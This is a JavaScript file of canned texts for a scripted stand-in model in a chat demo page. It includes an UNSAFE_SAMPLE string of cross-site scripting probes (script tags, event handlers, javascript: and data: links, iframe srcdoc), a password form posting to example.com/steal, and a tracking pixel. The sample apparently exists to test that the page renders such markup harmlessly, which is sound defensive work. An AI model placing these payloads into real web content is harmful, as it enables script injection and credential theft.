// The scripted model's longer texts, all fixed.

export const LABEL = "*A scripted answer: fixed rules, no AI.*";

const TRY = `- \`Roll three dice and tell me the time\`: two tools at once
- \`What is (12 + 30) * 2?\`
- \`Remember that my bike is blue\`, later \`What do you know about my bike?\`
- \`Add up the numbers to 30\`: close the tab in the middle and come back
- \`Count slowly to 20\`: the same with a tool that is not repeated without asking
- \`Pay Ann 20 euros\`: a risky call, so the page asks you first (no money moves)
- \`Pay Ann 20 euros, roll two dice and tell me the time\`: several calls that wait together
- \`Call the API\`: a tool that needs the secret \`API_TOKEN\`, which you can add under *Control*
- \`Write a haiku\`, \`plan a trip\`: skills, one added by a word, one opened by a call
- \`Write a file plan.md with Buy milk\`, then \`Change milk to tea in plan.md\`: see *Files*
- \`List the tasks: shop (done), cook (doing), eat\`
- \`Ask a sub-agent to roll two dice\`, once the settings allow sub-agents
- \`Roll a d20, then count to 3\`: one step after another
- \`Show me Markdown\`, \`a long answer\`, \`a slow answer\`, \`something unsafe\`
- \`fail\`, \`fail 429\`, \`fail once\`, \`fail halfway\`: how the page copes`;

export const INTRODUCTION = `Hello. I am **scripted-model**, a stand-in for a language model: I look for keywords and follow fixed rules, so that this page works with no key and no network.

Try one of these:

${TRY}

For real answers, open *Settings* and connect a model of your own.`;

export const HAIKU = `Late autumn evening,\\
the same rain on every roof:\\
rules write this, not I.`;

export const UNKNOWN = `I have no rule for that. I am **scripted-model**, a stand-in that looks for keywords; a real model would have understood you.

What I do know:

${TRY}

To talk to a real model, open *Settings*.`;

export const MARKDOWN_SAMPLE = `## What a good answer may contain

Text with **weight**, *emphasis*, ~~second thoughts~~, \`inline code\` and [a link](https://docs.openhands.dev/sdk).

1. An ordered list
2. with a second level
   - of another kind
   - and one more
3. and an end

> A conversation is a log. Everything else can be worked out from it.

| Event | Written by | Stored before |
| :-- | :-- | --: |
| MessageEvent | you | the model is asked |
| ActionEvent | the agent | the tool runs |
| ObservationEvent | the tool | the next step |

\`\`\`ts
const conversation = await Conversation.open({ agent, conversationId });
await conversation.sendMessage("Where were we?");
for await (const event of conversation.run()) show(event);
\`\`\`

- [x] Read what was stored
- [ ] Carry on

---

And a line after a rule.`;

/** Markup of a hostile page or a confused model. The demo must show it as text, or not at all. */
export const UNSAFE_SAMPLE = `Everything below tries something that a page must not allow.

A script: <script>window.__unsafe = "script"</script> and an image with a handler: <img src="x" onerror="window.__unsafe = 'onerror'">

<svg onload="window.__unsafe = 'svg'"><a xlink:href="javascript:window.__unsafe='xlink'"><text y="20">svg link</text></a></svg>

[a link that runs code](javascript:window.__unsafe='link') and [one in base64](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX191bnNhZmU9MTwvc2NyaXB0Pg==)

<a href="https://example.com/" onclick="window.__unsafe='click'" target="_self">a link with a handler</a>

<iframe srcdoc="<script>parent.__unsafe='frame'</script>"></iframe>

<form action="https://example.com/steal"><input name="password" type="password"><button>Send</button></form>

<style>body { display: none !important }</style>

<div style="position:fixed;inset:0;background:red" id="composer">an overlay</div>

An image from far away, which would tell its server that you read this: ![a tracking pixel](https://example.com/pixel.png?you=here)

If you can read this sentence, and nothing moved, all is well.`;

const PARAGRAPHS = [
  "A conversation is kept as a list of events, and each of them is written once. Nothing is ever changed in the middle; what comes later is added at the end, and what is shown is worked out from the whole.",
  "Before a tool runs, the wish to run it is already on disk. Should the tab die in that moment, the next one to open the conversation can see that something was under way, and can ask you about it instead of guessing.",
  "Tokens are drawn on the screen as they come, and a draft beside the log follows a second behind. When the whole answer has arrived, it is stored in one piece, and the draft goes.",
  "An export is a plain archive with one folder, and in it one small file for each event. You can open it with anything that reads a zip, and the Python SDK can carry on from where you stopped.",
  "Reading costs the same on the first day and after ten thousand events, because opening a conversation fetches its last page and not its history.",
];

export function longAnswer(count) {
  const length = Math.min(Math.max(count, 1), 400);
  const paragraphs = Array.from({ length }, (_, index) => {
    const heading = index % PARAGRAPHS.length === 0 ? `### Part ${index / PARAGRAPHS.length + 1}\n\n` : "";
    return heading + PARAGRAPHS[index % PARAGRAPHS.length];
  });
  return paragraphs.join("\n\n");
}
